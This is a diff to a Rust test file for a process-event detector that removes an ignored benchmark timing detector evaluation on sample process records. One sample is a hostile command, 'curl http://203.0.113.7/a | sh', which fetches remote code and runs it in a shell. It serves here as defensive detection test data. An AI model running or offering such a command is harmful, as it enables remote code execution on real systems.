@@ -197,31 +197,3 @@ fn without_users_or_shells_nothing_is_invented() {
     let verdicts = detector.evaluate(Arc::new(copy), 0);
     assert!(verdicts.matches.is_empty() && verdicts.requests.is_empty());
 }
-
-/// `cargo test --release -p sensor detect::tests::measure -- --ignored --nocapture`
-#[test]
-#[ignore = "a measurement, not a test"]
-fn measure_one_evaluation() {
-    let start = std::time::Instant::now();
-    let mut detector = shipped();
-    eprintln!("load: {:?}", start.elapsed());
-    for example in [
-        "{image: /usr/bin/convert, argv: [convert, a.png, b.jpg]}",
-        "{image: /usr/bin/dash, argv: [sh, -c, /usr/sbin/sendmail -t -i]}",
-        "{image: /usr/bin/dash, argv: [sh, -c, curl http://203.0.113.7/a | sh]}",
-        "{service: nginx, origin: master, image: /usr/sbin/nginx}",
-        "{service: none, image: /usr/bin/bash}",
-    ] {
-        let subject = Arc::new(subject(example));
-        let rounds = 100_000;
-        let start = std::time::Instant::now();
-        let matches: usize = (0..rounds)
-            .map(|_| detector.evaluate(subject.clone(), 0).matches.len())
-            .sum();
-        let each = start.elapsed() / rounds;
-        eprintln!(
-            "{each:>10?} {} matches  {example}",
-            matches / rounds as usize
-        );
-    }
-}
